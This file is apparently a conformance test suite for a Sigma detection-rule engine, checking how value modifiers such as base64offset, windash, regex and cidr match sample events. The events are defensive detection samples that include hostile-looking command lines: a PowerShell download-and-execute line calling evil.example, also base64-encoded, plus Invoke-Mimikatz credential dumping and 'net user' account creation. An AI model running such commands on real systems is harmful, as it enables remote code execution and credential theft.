/**
 * Sigma conformance: value modifiers, written from the specification text
 * (SigmaHQ/sigma-specification, specification/sigma-appendix-modifiers.md v2.1.0 and
 * specification/sigma-rules-specification.md v2.0.0). Each test name cites the section it
 * checks. Tests marked "(convention)" cover points the specification leaves open; they assert
 * what pySigma does. Expected values for the encoding modifiers are computed here with
 * Buffer, independently of the engine's own encoders.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { compileRule, matches, compileError, rule, sel } from './conformance.suite.js';
import { InputError } from '../../core/index.js';

const b64 = (bytes: Buffer | string): string => (typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : bytes).toString('base64');
const utf16le = (s: string): Buffer => Buffer.from(s, 'utf16le');
const utf16be = (s: string): Buffer => Buffer.from(s, 'utf16le').swap16();

/** Deterministic pseudo-random bytes (neighbours of an encoded value). */
function prng(seed: number): () => number {
  let x = seed >>> 0 || 1;
  return () => {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    return x & 0xff;
  };
}

// ---------------------------------------------------------------------------------------

describe('Generic modifiers (modifiers appendix §Generic Modifiers)', () => {
  test('§Generic contains: puts * around the value, so it matches anywhere in the field', () => {
    const r = sel(String.raw`CommandLine|contains: 'whoami'`);
    assert.equal(matches(r, { CommandLine: 'C:\\Windows\\System32\\WHOAMI.exe /all' }), true);
    assert.equal(matches(r, { CommandLine: 'whoami' }), true);
    assert.equal(matches(r, { CommandLine: 'who ami' }), false);
  });

  test('§Generic contains: wildcards inside the value keep working', () => {
    const r = sel(`CommandLine|contains: 'net*user'`);
    assert.equal(matches(r, { CommandLine: 'cmd /c net.exe user bob /add' }), true);
    assert.equal(matches(r, { CommandLine: 'cmd /c user net' }), false);
  });

  test('§Generic startswith: the value is expected at the beginning of the field', () => {
    const r = sel(String.raw`Image|startswith: 'C:\Windows\'`);
    assert.equal(matches(r, { Image: 'c:\\windows\\system32\\cmd.exe' }), true);
    assert.equal(matches(r, { Image: 'D:\\C:\\Windows\\cmd.exe' }), false);
  });

  test('§Generic endswith: the value is expected at the end of the field', () => {
    const r = sel(String.raw`Image|endswith: '\cmd.exe'`);
    assert.equal(matches(r, { Image: 'C:\\Windows\\System32\\CMD.EXE' }), true);
    assert.equal(matches(r, { Image: 'C:\\Windows\\System32\\cmd.exe.bak' }), false);
    assert.equal(matches(r, { Image: 'C:\\Windows\\System32\\xcmd.exe' }), false);
  });

  test('§Generic all: a list of values is linked with AND instead of OR', () => {
    const r = sel(`
      CommandLine|contains|all:
          - ' -nop '
          - ' -w hidden'
    `);
    assert.equal(matches(r, { CommandLine: 'powershell.exe -nop -w hidden -c x' }), true);
    assert.equal(matches(r, { CommandLine: 'powershell.exe -w hidden -nop -c x' }), true, 'order of the values does not matter');
    assert.equal(matches(r, { CommandLine: 'powershell.exe -nop -c x' }), false);
  });

  test('§Generic all: "Single item values are not allowed to have an all modifier" — the rule is rejected', () => {
    const reason = compileError(sel(`CommandLine|contains|all: 'whoami'`));
    assert.match(reason, /all/);
  });

  test("§Keywords search '|all': keyword list under '|all' means every keyword must appear (AND)", () => {
    const r = rule(`
      keywords_cmdlet:
          '|all':
              - 'OabVirtualDirectory'
              - ' -ExternalUrl '
      condition: keywords_cmdlet
    `);
    assert.equal(matches(r, { Payload: "Set-OabVirtualDirectory -Identity x -ExternalUrl 'http://evil'" }), true);
    assert.equal(matches(r, { Payload: 'Set-OabVirtualDirectory -Identity x' }), false);
    assert.equal(matches(r, { Payload: "Get-Thing -ExternalUrl 'http://x'" }), false);
  });

  test('§Generic exists: true — the field is present, whatever its value (even empty or null)', () => {
    const r = sel(`
      EventID: 4738
      PasswordLastSet|exists: true
    `);
    assert.equal(matches(r, { EventID: 4738, PasswordLastSet: '%%1794' }), true);
    assert.equal(matches(r, { EventID: 4738, PasswordLastSet: '' }), true, 'present but empty still exists');
    assert.equal(matches(r, { EventID: 4738, PasswordLastSet: null }), true, 'present but null still exists');
    assert.equal(matches(r, { EventID: 4738 }), false);
  });

  test('§Generic exists: false — the field must not exist in the event', () => {
    const r = sel(`PasswordLastSet|exists: false`);
    assert.equal(matches(r, { EventID: 4738 }), true);
    assert.equal(matches(r, { PasswordLastSet: '' }), false);
    assert.equal(matches(r, { PasswordLastSet: null }), false);
  });

  test('§Generic exists: works on nested (dotted) field names', () => {
    const r = sel(`process.parent.name|exists: true`);
    assert.equal(matches(r, { process: { parent: { name: 'explorer.exe' } } }), true);
    assert.equal(matches(r, { process: { name: 'explorer.exe' } }), false);
  });

  test('§Generic cased: values are applied case-sensitively', () => {
    const r = sel(String.raw`Image|cased: 'C:\Windows\System32\whoami.exe'`);
    assert.equal(matches(r, { Image: 'C:\\Windows\\System32\\whoami.exe' }), true);
    assert.equal(matches(r, { Image: 'c:\\windows\\system32\\whoami.exe' }), false);
  });

  test('§Generic cased: combines with contains', () => {
    const r = sel(`CommandLine|contains|cased: 'Invoke-Mimikatz'`);
    assert.equal(matches(r, { CommandLine: 'powershell IEX; Invoke-Mimikatz -DumpCreds' }), true);
    assert.equal(matches(r, { CommandLine: 'powershell IEX; invoke-mimikatz -DumpCreds' }), false);
  });

  test('§Generic neq: the field is different from a string value (case-insensitive like other values)', () => {
    const r = sel(`User|neq: 'SYSTEM'`);
    assert.equal(matches(r, { User: 'alice' }), true);
    assert.equal(matches(r, { User: 'SYSTEM' }), false);
    assert.equal(matches(r, { User: 'system' }), false);
  });

  test('§Generic/§Numeric neq: the field is different from a number', () => {
    const r = sel(`EventID|neq: 4688`);
    assert.equal(matches(r, { EventID: 4624 }), true);
    assert.equal(matches(r, { EventID: 4688 }), false);
    assert.equal(matches(r, { EventID: '4688' }), false);
  });

  test('§Generic neq with a list: "The field is different from the specified values" — all of them', () => {
    const r = sel(`
      User|neq:
          - 'SYSTEM'
          - 'LOCAL SERVICE'
    `);
    assert.equal(matches(r, { User: 'alice' }), true);
    assert.equal(matches(r, { User: 'SYSTEM' }), false, 'SYSTEM is one of the specified values');
    assert.equal(matches(r, { User: 'LOCAL SERVICE' }), false, 'LOCAL SERVICE is one of the specified values');
  });

  test('§Generic neq on an absent field matches (convention: pySigma negates the whole item)', () => {
    assert.equal(matches(sel(`User|neq: 'SYSTEM'`), { Other: 'x' }), true);
  });
});

describe('String modifiers: windash (modifiers appendix §String Modifiers)', () => {
  const DASHES = ['-', '/', '\u2013', '\u2014', '\u2015'] as const;

  for (const d of DASHES) {
    test(`§windash: a '-' flag also matches U+${d.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')} '${d}'`, () => {
      const r = sel(`CommandLine|windash|contains: ' -ExecutionPolicy bypass'`);
      assert.equal(matches(r, { CommandLine: `powershell.exe ${d}ExecutionPolicy Bypass -File x.ps1` }), true);
    });
  }

  test("§windash: a '/' flag in the rule also matches '-' and the other dashes", () => {
    const r = sel(`CommandLine|windash|contains: ' /c '`);
    for (const d of DASHES) assert.equal(matches(r, { CommandLine: `cmd.exe ${d}c whoami` }), true, `dash ${d}`);
    assert.equal(matches(r, { CommandLine: 'cmd.exe +c whoami' }), false);
  });

  test('§windash: "all possible permutations" — several flags vary independently', () => {
    const r = sel(`CommandLine|windash|contains: ' -nop -w hidden'`);
    assert.equal(matches(r, { CommandLine: 'powershell /nop \u2014w hidden' }), true);
    assert.equal(matches(r, { CommandLine: 'powershell \u2015nop -w hidden' }), true);
    assert.equal(matches(r, { CommandLine: 'powershell nop w hidden' }), false);
  });

  test("§windash: only flag-position dashes are permuted, not a dash inside a word (convention: pySigma '\\B[-/]\\b')", () => {
    const r = sel(`CommandLine|windash|contains: 'Set-Content'`);
    assert.equal(matches(r, { CommandLine: 'powershell Set-Content x' }), true);
    assert.equal(matches(r, { CommandLine: 'powershell Set/Content x' }), false);
  });

  test('§windash with all: each value keeps its own dash permutations, values are ANDed', () => {
    const r = sel(`
      CommandLine|windash|contains|all:
          - ' -s '
          - ' -t '
    `);
    assert.equal(matches(r, { CommandLine: 'shutdown /s /t 0' }), true);
    assert.equal(matches(r, { CommandLine: 'shutdown -s \u2013t 0' }), true);
    assert.equal(matches(r, { CommandLine: 'shutdown /s' }), false);
  });
});

describe('Regular expression modifier (modifiers appendix §Regular Expression)', () => {
  test('§re: value is handled as a regular expression', () => {
    const r = sel(`CommandLine|re: 'who[a-z]mi\\.exe'`);
    assert.equal(matches(r, { CommandLine: 'whoami.exe' }), true);
    assert.equal(matches(r, { CommandLine: 'who0mi.exe' }), false);
  });

  test('§re: the expression is searched anywhere in the value, not anchored (convention: pySigma/Hayabusa)', () => {
    const r = sel(`CommandLine|re: 'who.mi'`);
    assert.equal(matches(r, { CommandLine: 'C:\\Windows\\whoami.exe /all' }), true);
    const anchored = sel(`CommandLine|re: '^who.mi$'`);
    assert.equal(matches(anchored, { CommandLine: 'C:\\Windows\\whoami.exe /all' }), false);
  });

  test('§re / §General: "Regex is matched case-sensitive by default"', () => {
    const r = sel(`CommandLine|re: 'whoami'`);
    assert.equal(matches(r, { CommandLine: 'WHOAMI /all' }), false);
    assert.equal(matches(r, { CommandLine: 'whoami /all' }), true);
  });

  test('§re sub-modifier i: case-insensitive matching', () => {
    const r = sel(`CommandLine|re|i: 'whoami'`);
    assert.equal(matches(r, { CommandLine: 'WHOAMI /all' }), true);
  });

  test('§re sub-modifier m: ^ and $ match the start/end of each line', () => {
    const event = { Payload: 'first line\nfoo\nlast line' };
    assert.equal(matches(sel(`Payload|re|m: '^foo$'`), event), true);
    assert.equal(matches(sel(`Payload|re: '^foo$'`), event), false);
  });

  test('§re sub-modifier s: dot matches all characters including newline', () => {
    const event = { Payload: 'begin\nend' };
    assert.equal(matches(sel(`Payload|re|s: 'begin.end'`), event), true);
    assert.equal(matches(sel(`Payload|re: 'begin.end'`), event), false);
  });

  test('§re sub-modifiers combine (i and s)', () => {
    assert.equal(matches(sel(`Payload|re|i|s: 'BEGIN.END'`), { Payload: 'begin\nend' }), true);
  });

  test("§re sub-modifiers are only valid after 're' (an 'i' on a plain value is rejected)", () => {
    assert.match(compileError(sel(`Payload|i: 'x'`)), /'i'/);
  });

  test('§re: numbers in the event are matched as their text', () => {
    const r = sel(`EventID|re: '^46(88|24)$'`);
    assert.equal(matches(r, { EventID: 4688 }), true);
    assert.equal(matches(r, { EventID: 4689 }), false);
  });

  test('§re: a catastrophic-backtracking pattern (a+)+$ runs in linear time (RE2)', () => {
    const r = compileRule(sel(`Payload|re: '(a+)+$'`));
    const evil = `${'a'.repeat(64)}!`;
    const start = performance.now();
    assert.equal(r({ Payload: evil }), false);
    assert.equal(r({ Payload: `${'a'.repeat(100_000)}!` }), false);
    const ms = performance.now() - start;
    assert.ok(ms < 1000, `took ${ms.toFixed(0)} ms`);
  });

  test('§re: "Other metacharacters are unsupported" — a lookahead is a clear compile error naming the regex', () => {
    const reason = compileError(sel(`Payload|re: 'foo(?=bar)'`));
    assert.match(reason, /rule\.yml:\d+/);
    assert.match(reason, /regular expression/i);
    assert.match(reason, /foo\(\?=bar\)/);
  });

  test('§re: a backreference is a compile error, not a silent non-match', () => {
    assert.match(compileError(sel(`Payload|re: '(a)\\1'`)), /regular expression/i);
  });
});

describe('Encoding modifiers (modifiers appendix §Encoding)', () => {
  test('§base64: the value is encoded with Base64 and compared as a whole', () => {
    const r = sel(`CommandLine|base64: 'whoami /all'`);
    assert.equal(matches(r, { CommandLine: b64('whoami /all') }), true);
    assert.equal(matches(r, { CommandLine: 'whoami /all' }), false);
  });

  test('§base64 with contains: the encoded value found at the start of a longer encoded payload', () => {
    // 'http:/' is 6 bytes: its base64 has no padding and is a prefix of the payload's base64.
    const r = sel(`CommandLine|base64|contains: 'http:/'`);
    assert.equal(matches(r, { CommandLine: `certutil -decode ${b64('http://evil.example/x')} out.exe` }), true);
    assert.equal(matches(r, { CommandLine: `certutil -decode ${b64('ftp://evil.example/x')} out.exe` }), false);
  });

  test('§base64offset: whoami is found in a real base64 command line at byte offsets 0, 1 and 2 (Buffer-computed)', () => {
    const r = compileRule(sel(`CommandLine|base64offset|contains: 'whoami'`));
    for (const prefix of ['', 'a', 'ab', 'cmd /c ', 'cmd /c x', 'cmd /c xy']) {
      for (const suffix of ['', ' ', ' /all', ' /groups']) {
        const encoded = b64(`${prefix}whoami${suffix}`);
        assert.equal(r({ CommandLine: `powershell.exe -e ${encoded}` }), true, `offset ${prefix.length % 3}: '${prefix}whoami${suffix}' → ${encoded}`);
      }
    }
  });

  test('§base64offset: every neighbouring byte value at each offset still matches (static middle part)', () => {
    const r = compileRule(sel(`Payload|base64offset|contains: 'whoami'`));
    const value = Buffer.from('whoami');
    for (let shift = 0; shift < 3; shift++) {
      for (let b = 0; b < 256; b++) {
        const next = prng(b * 7 + shift + 1);
        const before = Buffer.from(Array.from({ length: shift }, () => (shift === 1 ? b : next())));
        const after = Buffer.from(Array.from({ length: b % 4 }, () => next()));
        const data = Buffer.concat([before, value, after]);
        assert.equal(r({ Payload: b64(data) }), true, `shift ${shift}, bytes ${data.toString('hex')}`);
      }
    }
  });

  test('§base64offset: a different value encoded at any offset does not match', () => {
    const r = compileRule(sel(`CommandLine|base64offset|contains: 'whoami'`));
    for (const prefix of ['', 'a', 'ab']) {
      assert.equal(r({ CommandLine: `powershell -e ${b64(`${prefix}whoamx /all`)}` }), false);
    }
    assert.equal(r({ CommandLine: 'whoami /all' }), false, 'the plain text is not its base64 form');
  });

  const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
  const needle = 'New-Object Net.WebClient';

  for (const mod of ['utf16le', 'wide'] as const) {
    test(`§${mod} + base64offset|contains: PowerShell -EncodedCommand (UTF-16LE) found at every offset`, () => {
      const r = compileRule(sel(`CommandLine|${mod}|base64offset|contains: '${needle}'`));
      for (const lead of ['', 'x', 'xy', '$a=1;', '$ab=1;', '$abc=1;']) {
        const encoded = b64(utf16le(`${lead}${script}`));
        assert.equal(r({ CommandLine: `powershell.exe -NoP -NonI -EncodedCommand ${encoded}` }), true, `lead '${lead}'`);
      }
      const utf8 = b64(`${script}`);
      assert.equal(r({ CommandLine: `powershell.exe -EncodedCommand ${utf8}` }), false, 'UTF-8 encoded text is not UTF-16LE');
    });
  }

  test('§utf16be + base64offset|contains: UTF-16BE encoded payload found at every offset', () => {
    const r = compileRule(sel(`CommandLine|utf16be|base64offset|contains: '${needle}'`));
    for (const lead of ['', 'x', 'xy']) {
      assert.equal(r({ CommandLine: `x -e ${b64(utf16be(`${lead}${script}`))}` }), true, `lead '${lead}'`);
    }
    // (No little-endian negative: UTF-16LE text holds the big-endian byte sequence one byte later.)
    assert.equal(r({ CommandLine: `x -e ${b64(script)}` }), false, 'UTF-8 encoded text is not UTF-16BE');
  });

  test('§utf16 + base64offset|contains: byte order mark FF FE then UTF-16LE', () => {
    const r = compileRule(sel(`CommandLine|utf16|base64offset|contains: 'whoami'`));
    const withBom = Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le('whoami /all')]);
    assert.equal(r({ CommandLine: `powershell -enc ${b64(withBom)}` }), true);
    assert.equal(r({ CommandLine: `powershell -enc ${b64(Buffer.concat([Buffer.from('ab'), withBom]))}` }), true);
  });

  test('§utf16le / §utf16be / §utf16: the examples cmd > 63 00 6d 00 64 00, 00 63 00 6d 00 64, FF FE 63 00 6d 00 64 00', () => {
    const bin = (bytes: number[]): string => String.fromCharCode(...bytes);
    assert.equal(matches(sel(`Data|utf16le: 'cmd'`), { Data: bin([0x63, 0, 0x6d, 0, 0x64, 0]) }), true);
    assert.equal(matches(sel(`Data|wide: 'cmd'`), { Data: bin([0x63, 0, 0x6d, 0, 0x64, 0]) }), true);
    assert.equal(matches(sel(`Data|utf16be: 'cmd'`), { Data: bin([0, 0x63, 0, 0x6d, 0, 0x64]) }), true);
    assert.equal(matches(sel(`Data|utf16: 'cmd'`), { Data: bin([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]) }), true);
    assert.equal(matches(sel(`Data|utf16le: 'cmd'`), { Data: 'cmd' }), false);
  });

  test('§re on a field: non-ASCII text, a list value, and two regexes on one value agree with RE2 on the text', () => {
    // The engine hands RE2 the field's UTF-8 bytes once per event; the answers must be the text's.
    const r = compileRule(sel(`CommandLine|re: 'caf\u00e9.x{2}'`));
    assert.equal(r({ CommandLine: 'un café xx' }), true);
    assert.equal(r({ CommandLine: 'un cafe xx' }), false);
    assert.equal(r({ CommandLine: ['nothing', 'café!xx'] }), true, 'any element of a list');
    const both = compileRule(sel(`CommandLine|re|all:\n            - '^\u00fc.*z$'\n            - '[0-9]{3}'`));
    assert.equal(both({ CommandLine: 'übung 123 z' }), true);
    assert.equal(both({ CommandLine: 'übung 12 z' }), false);
    const emoji = compileRule(sel(`CommandLine|re: '^.{3}$'`));
    assert.equal(emoji({ CommandLine: 'a😀b' }), true, 'a character outside the BMP is one character');
  });

  test('§re: a text shorter than any match is refused without RE2, a long enough one still matches', () => {
    const r = compileRule(sel(`CommandLine|re: '\\s[a-f0-9]{8}\\s'`));
    assert.equal(r({ CommandLine: ' abcdef0 ' }), false);
    assert.equal(r({ CommandLine: ' abcdef01 ' }), true);
  });

  test('§base64: encoding a value with wildcards is rejected (convention: pySigma "Base64 encoding of strings with wildcards is not allowed")', () => {
    assert.match(compileError(sel(`CommandLine|contains|base64: 'whoami'`)), /wildcard/);
  });
});

describe('IP modifier (modifiers appendix §IP Modifiers)', () => {
  test('§cidr IPv4: 10.0.0.0/8 includes its first and last address, excludes its neighbours', () => {
    const r = compileRule(sel(`DestinationIp|cidr: 10.0.0.0/8`));
    assert.equal(r({ DestinationIp: '10.0.0.0' }), true);
    assert.equal(r({ DestinationIp: '10.255.255.255' }), true);
    assert.equal(r({ DestinationIp: '10.1.2.3' }), true);
    assert.equal(r({ DestinationIp: '9.255.255.255' }), false);
    assert.equal(r({ DestinationIp: '11.0.0.0' }), false);
    assert.equal(r({ DestinationIp: '110.0.0.1' }), false, 'not a text prefix test');
  });

  test('§cidr IPv4: prefix lengths that do not fall on an octet (/12, /20)', () => {
    const r12 = compileRule(sel(`DestinationIp|cidr: 172.16.0.0/12`));
    assert.equal(r12({ DestinationIp: '172.16.0.0' }), true);
    assert.equal(r12({ DestinationIp: '172.31.255.255' }), true);
    assert.equal(r12({ DestinationIp: '172.15.255.255' }), false);
    assert.equal(r12({ DestinationIp: '172.32.0.0' }), false);
    const r20 = compileRule(sel(`DestinationIp|cidr: 192.168.16.0/20`));
    assert.equal(r20({ DestinationIp: '192.168.31.255' }), true);
    assert.equal(r20({ DestinationIp: '192.168.32.0' }), false);
  });

  test('§cidr: several networks over several texts, in any order, each answer its own', () => {
    const r = compileRule(sel(`DestinationIp|cidr:\n            - 10.0.0.0/8\n            - '2001:db8::/32'\n            - 192.168.0.0/16`));
    const texts = ['10.1.1.1', '8.8.8.8', '2001:db8::5', '192.168.3.4', '2001:db9::', '10.1.1.1', '8.8.8.8'];
    assert.deepEqual(texts.map((t) => r({ DestinationIp: t })), [true, false, true, true, false, true, false]);
  });

  test('§cidr IPv4: /32 is one address and /0 is every IPv4 address', () => {
    const r32 = compileRule(sel(`DestinationIp|cidr: 192.168.1.10/32`));
    assert.equal(r32({ DestinationIp: '192.168.1.10' }), true);
    assert.equal(r32({ DestinationIp: '192.168.1.11' }), false);
    const r0 = compileRule(sel(`DestinationIp|cidr: 0.0.0.0/0`));
    assert.equal(r0({ DestinationIp: '255.255.255.255' }), true);
    assert.equal(r0({ DestinationIp: 'not an ip' }), false);
  });

  test('§cidr IPv6: 2001:db8::/32 edges, compressed and upper-case notations', () => {
    const r = compileRule(sel(`DestinationIp|cidr: '2001:db8::/32'`));
    assert.equal(r({ DestinationIp: '2001:db8::1' }), true);
    assert.equal(r({ DestinationIp: '2001:0DB8:ffff:ffff:ffff:ffff:ffff:ffff' }), true);
    assert.equal(r({ DestinationIp: '2001:db8:0:0:0:0:0:0' }), true);
    assert.equal(r({ DestinationIp: '2001:db7:ffff::' }), false);
    assert.equal(r({ DestinationIp: '2001:db9::' }), false);
  });

  test('§cidr IPv6: /10 (fe80::) with a zone index, /128 loopback, IPv4-mapped /96', () => {
    const ll = compileRule(sel(`DestinationIp|cidr: 'fe80::/10'`));
    assert.equal(ll({ DestinationIp: 'fe80::1%eth0' }), true);
    assert.equal(ll({ DestinationIp: 'febf:ffff::1' }), true);
    assert.equal(ll({ DestinationIp: 'fec0::1' }), false);
    const lo = compileRule(sel(`DestinationIp|cidr: '::1/128'`));
    assert.equal(lo({ DestinationIp: '::1' }), true);
    assert.equal(lo({ DestinationIp: '::2' }), false);
    const mapped = compileRule(sel(`DestinationIp|cidr: '::ffff:0:0/96'`));
    assert.equal(mapped({ DestinationIp: '::ffff:10.1.2.3' }), true);
  });

  test('§cidr: an IPv4 address is not in an IPv6 network and vice versa', () => {
    assert.equal(matches(sel(`DestinationIp|cidr: '::/0'`), { DestinationIp: '10.0.0.1' }), false);
    assert.equal(matches(sel(`DestinationIp|cidr: 0.0.0.0/0`), { DestinationIp: '::1' }), false);
  });

  test('§cidr: a list of networks is ORed', () => {
    const r = compileRule(sel(`
      DestinationIp|cidr:
          - 10.0.0.0/8
          - 192.168.0.0/16
          - 'fc00::/7'
    `));
    assert.equal(r({ DestinationIp: '192.168.5.5' }), true);
    assert.equal(r({ DestinationIp: 'fd12::1' }), true);
    assert.equal(r({ DestinationIp: '8.8.8.8' }), false);
  });

  test('§cidr: a malformed network is a compile error', () => {
    assert.match(compileError(sel(`DestinationIp|cidr: 10.0.0.0/33`)), /10\.0\.0\.0\/33/);
    assert.match(compileError(sel(`DestinationIp|cidr: 300.0.0.0/8`)), /300\.0\.0\.0\/8/);
  });
});

describe('Numeric modifiers (modifiers appendix §Numeric Modifiers)', () => {
  const cases: Array<[string, number, Record<number, boolean>]> = [
    ['lt', 10, { 9: true, 10: false, 11: false }],
    ['lte', 10, { 9: true, 10: true, 11: false }],
    ['gt', 10, { 9: false, 10: false, 11: true }],
    ['gte', 10, { 9: false, 10: true, 11: true }],
  ];
  for (const [mod, n, expect] of cases) {
    test(`§Numeric ${mod}: field ${mod} ${n}, at and around the boundary, numbers and numeric strings`, () => {
      const r = compileRule(sel(`Count|${mod}: ${n}`));
      for (const [x, want] of Object.entries(expect)) {
        assert.equal(r({ Count: Number(x) }), want, `number ${x}`);
        assert.equal(r({ Count: x }), want, `string '${x}'`);
      }
    });
  }

  test('§Numeric: negative and fractional numbers compare numerically, not as text', () => {
    assert.equal(matches(sel(`Delta|lt: 0`), { Delta: -5 }), true);
    assert.equal(matches(sel(`Delta|gt: 1.5`), { Delta: '1.75' }), true);
    assert.equal(matches(sel(`Delta|gt: 9`), { Delta: '10' }), true, "'10' > 9 numerically although '10' < '9' as text");
  });

  test('§Numeric: a non-numeric event value never satisfies a comparison', () => {
    assert.equal(matches(sel(`Count|gte: 0`), { Count: 'many' }), false);
    assert.equal(matches(sel(`Count|lt: 100`), { Count: '' }), false);
    assert.equal(matches(sel(`Count|lt: 100`), {}), false);
  });

  test('§Numeric: "can only be applied to numeric values" — a non-numeric rule value is rejected', () => {
    assert.match(compileError(sel(`Count|gt: many`)), /many/);
  });
});

describe('Time modifiers (modifiers appendix §Time Modifiers)', () => {
  const ts = '2024-03-05T03:15:42Z'; // Tuesday of ISO week 10
  const parts: Array<[string, number, number]> = [
    ['minute', 15, 16],
    ['hour', 3, 4],
    ['day', 5, 6],
    ['week', 10, 11],
    ['month', 3, 4],
    ['year', 2024, 2023],
  ];
  for (const [mod, right, wrong] of parts) {
    test(`§Time ${mod}: extracts the ${mod} number from a date (${ts} → ${right})`, () => {
      const r = sel(`Timestamp|${mod}: ${right}`);
      assert.equal(matches(r, { Timestamp: ts }), true);
      assert.equal(matches(sel(`Timestamp|${mod}: ${wrong}`), { Timestamp: ts }), false);
    });
  }

  test('§Time: Windows event-log timestamps with 7 fractional digits are dates too', () => {
    assert.equal(matches(sel(`SystemTime|hour: 23`), { SystemTime: '2024-03-05T23:59:59.1234567Z' }), true);
  });

  test('§Time: "not designed to handle timezone conversions" — a zone-less timestamp is read as written, whatever the host time zone', () => {
    const saved = process.env.TZ;
    try {
      process.env.TZ = 'Asia/Taipei';
      const r = compileRule(sel(`Timestamp|hour: 3`));
      assert.equal(r({ Timestamp: '2024-03-05T03:15:42' }), true, 'hour as written is 3');
      assert.equal(matches(sel(`Timestamp|day: 5`), { Timestamp: '2024-03-05 03:15:42' }), true, 'day as written is 5');
    } finally {
      if (saved === undefined) delete process.env.TZ;
      else process.env.TZ = saved;
    }
  });

  test('§Time + §Numeric: the extracted number can be compared (hour|gte), or the rule is rejected — never a silent non-match (convention)', () => {
    const text = sel(`Timestamp|hour|gte: 22`);
    let fn: ((e: object) => boolean) | null = null;
    try {
      fn = compileRule(text);
    } catch (err) {
      if (!(err instanceof InputError)) throw err;
    }
    if (fn !== null) {
      assert.equal(fn({ Timestamp: '2024-03-05T23:10:00Z' }), true, 'hour 23 >= 22');
      assert.equal(fn({ Timestamp: '2024-03-05T10:10:00Z' }), false, 'hour 10 < 22');
    }
  });

  test('§Time: a value that is not a date never matches', () => {
    assert.equal(matches(sel(`Timestamp|year: 2024`), { Timestamp: 'yesterday' }), false);
  });
});

describe('Specific modifiers: expand and fieldref (modifiers appendix §Specific Modifiers; rules spec §Placeholders)', () => {
  const placeholders = new Map<string, readonly string[]>([
    ['Administrators', ['adm_*', 'root']],
    ['DomainControllers', ['dc01', 'dc02']],
    ['name', ['X']],
  ]);

  test('§expand: a placeholder expands to its configured values (ORed, wildcards allowed)', () => {
    const r = compileRule(sel(`User|expand: '%Administrators%'`), { placeholders });
    assert.equal(r({ User: 'adm_alice' }), true);
    assert.equal(r({ User: 'ROOT' }), true);
    assert.equal(r({ User: 'alice' }), false);
  });

  test('§expand: a placeholder inside a longer value keeps the surrounding text', () => {
    const r = compileRule(sel(String.raw`Computer|expand: '%DomainControllers%.corp.example'`), { placeholders });
    assert.equal(r({ Computer: 'DC02.corp.example' }), true);
    assert.equal(r({ Computer: 'dc03.corp.example' }), false);
  });

  test('§expand without a configured value: the rule compiles and the unresolved placeholder never matches (engine-documented)', () => {
    const r = compileRule(sel(`User|expand: '%Servers%'`));
    assert.equal(r({ User: '%Servers%' }), false);
    assert.equal(r({ User: 'srv01' }), false);
  });

  test('§Placeholders: "field: %name% handles %name% as literal value" (no expand modifier)', () => {
    const r = compileRule(sel(`User: '%Administrators%'`), { placeholders });
    assert.equal(r({ User: '%Administrators%' }), true);
    assert.equal(r({ User: 'root' }), false);
  });

  test('§Placeholders: "field|expand: \\%plain%name% handles %plain as plain value and %name% as placeholder"', () => {
    const r = compileRule(sel(String.raw`Value|expand: '\%plain%name%'`), { placeholders });
    assert.equal(r({ Value: '%plainX' }), true);
  });

  test('§fieldref: compares one field of the event with another', () => {
    const r = compileRule(sel(`TargetUserName|fieldref: SubjectUserName`));
    assert.equal(r({ TargetUserName: 'alice', SubjectUserName: 'alice' }), true);
    assert.equal(r({ TargetUserName: 'alice', SubjectUserName: 'bob' }), false);
  });

  test('§fieldref: a missing referenced field does not match', () => {
    const r = compileRule(sel(`TargetUserName|fieldref: SubjectUserName`));
    assert.equal(r({ TargetUserName: 'alice' }), false);
    assert.equal(r({ SubjectUserName: 'alice' }), false);
  });

  test('§fieldref: "Can be combined with the neq modifier" — the two fields differ', () => {
    const r = compileRule(sel(`TargetUserName|fieldref|neq: SubjectUserName`));
    assert.equal(r({ TargetUserName: 'alice', SubjectUserName: 'bob' }), true);
    assert.equal(r({ TargetUserName: 'alice', SubjectUserName: 'alice' }), false);
  });

  test('§fieldref: numbers compare by value text (4624 vs "4624")', () => {
    assert.equal(matches(sel(`A|fieldref: B`), { A: 4624, B: '4624' }), true);
  });
});

describe('Modifier chains (rules spec §Value Modifiers)', () => {
  test('§Value Modifiers: "applied in the given order" — windash|contains and contains|windash agree', () => {
    const a = compileRule(sel(`CommandLine|windash|contains: ' -enc '`));
    const b = compileRule(sel(`CommandLine|contains|windash: ' -enc '`));
    for (const cl of ['powershell /enc AAAA', 'powershell \u2013enc AAAA', 'powershell enc AAAA']) {
      assert.equal(a({ CommandLine: cl }), b({ CommandLine: cl }), cl);
    }
  });

  test('§Value Modifiers: an unknown modifier is rejected with its name and line', () => {
    const reason = compileError(sel(`CommandLine|containz: 'x'`));
    assert.match(reason, /containz/);
    assert.match(reason, /^rule\.yml:6/);
  });
});
